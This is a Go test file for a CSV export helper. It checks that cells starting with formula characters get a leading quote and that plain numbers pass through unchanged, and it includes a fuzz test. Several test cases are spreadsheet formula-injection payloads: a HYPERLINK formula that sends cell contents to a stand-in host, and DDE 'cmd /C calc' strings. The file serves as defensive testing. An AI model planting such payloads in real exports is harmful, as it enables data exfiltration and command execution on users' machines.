package export

import (
	"strconv"
	"strings"
	"testing"
	"time"
)

// formulaStart reports whether a spreadsheet would read a cell as a formula.
func formulaStart(s string) bool { return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) }

func TestCSVCellDefusesFormulasAndKeepsNumbers(t *testing.T) {
	cases := []struct {
		in   any
		want string
	}{
		{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"-1+1", "'-1+1"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"+44 20 7946 0958", "'+44 20 7946 0958"},
		{"-Inf", "'-Inf"},
		{"-0x1p-2", "'-0x1p-2"},
		{"-12.5", "-12.5"},
		{"+3", "+3"},
		{"-1e5", "-1e5"},
		{-7, "-7"},
		{42.5, "42.5"},
		{"Ana Lima", "Ana Lima"},
		{"a=b", "a=b"},
		{"", ""},
		{nil, ""},
		{time.Date(2026, 3, 2, 10, 0, 0, 0, time.FixedZone("X", 3600)), "2026-03-02T09:00:00Z"},
	}
	for _, tc := range cases {
		if got := csvCell(tc.in); got != tc.want {
			t.Errorf("csvCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// FuzzCSVCell proves no value leaves csvCell as a cell a spreadsheet would
// run as a formula, unless the whole cell is a plain number, and that a
// defused cell still shows what was there after the quote.
func FuzzCSVCell(f *testing.F) {
	for _, s := range []string{"=1+1", "-1+1", "+44 20", "@x", "\t-1", "-12.5", "1e5", "-", "+", "'=x", "Ana"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := csvCell(s)
		if formulaStart(got) {
			if _, err := strconv.ParseFloat(got, 64); err != nil {
				t.Fatalf("csvCell(%q) = %q: a formula", s, got)
			}
		}
		if got != s && got != "'"+s {
			t.Fatalf("csvCell(%q) = %q: changed more than a leading quote", s, got)
		}
	})
}
